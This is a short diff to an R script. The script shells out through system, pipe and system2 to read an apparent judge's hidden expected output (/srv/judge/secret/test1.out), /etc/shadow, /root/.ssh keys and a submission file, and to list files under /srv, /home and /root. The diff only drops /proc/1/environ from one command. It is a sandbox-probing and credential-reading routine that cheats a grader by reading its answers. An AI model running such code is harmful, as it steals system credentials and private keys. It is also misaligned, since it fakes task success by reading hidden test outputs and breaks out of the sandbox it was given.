@@ -1,7 +1,7 @@
 # Has the shell read for it, by every function that starts one.
 found <- character()
 attempt <- function(f) tryCatch(suppressWarnings(f()), error = function(e) character())
-found <- c(found, attempt(function() system("cat /srv/judge/secret/test1.out /etc/shadow /proc/1/environ 2>/dev/null", intern = TRUE)))
+found <- c(found, attempt(function() system("cat /srv/judge/secret/test1.out /etc/shadow 2>/dev/null", intern = TRUE)))
 found <- c(found, attempt(function() readLines(pipe("cat /box/answer.c /root/.ssh/* 2>/dev/null"))))
 found <- c(found, attempt(function() system2("find", c("/srv", "/home", "/root", "-type", "f"), stdout = TRUE, stderr = FALSE)))
 found <- c(found, attempt(function() readLines("/srv/judge/secret/test1.out")))
